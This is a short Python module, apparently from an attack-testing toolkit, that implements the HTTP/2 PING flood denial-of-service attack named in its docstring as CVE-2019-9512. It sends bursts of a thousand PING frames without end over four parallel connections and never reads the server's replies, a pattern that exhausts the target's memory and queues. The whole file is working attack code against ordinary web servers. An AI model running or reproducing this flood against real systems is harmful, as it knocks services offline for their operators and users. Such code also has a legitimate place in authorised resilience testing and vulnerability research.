"""PING without end, answers unread (RFC 9113, 10.5; CVE-2019-9512)."""

from wire.http2 import PING, frame, http2


async def attack(target):
    burst = frame(PING, body=bytes(8)) * 1000

    async def lane(number):
        async with http2(target, target.source(number), reads=False) as it:
            while it and target.goes_on():
                await it.send(burst)

    await target.lanes(4, lane)
